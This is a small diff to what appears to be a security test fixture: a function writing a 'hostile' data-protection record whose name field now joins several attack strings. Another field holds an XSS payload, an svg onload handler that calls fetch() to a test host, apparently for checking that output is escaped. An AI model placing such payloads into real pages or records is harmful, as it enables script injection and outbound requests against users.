@@ -114,7 +114,7 @@ def write_hostile_record(folder: Path, port: int) -> None:
             {
                 "id": "de-hostile",
                 "short": short,
-                "name": whole,
+                "name": " ".join(attacks(port)[:4]),
                 "name_local": f"{short} | <svg/onload=fetch('{host}/local')>",
                 "place": "DE-HH",
                 "type": "data-protection",
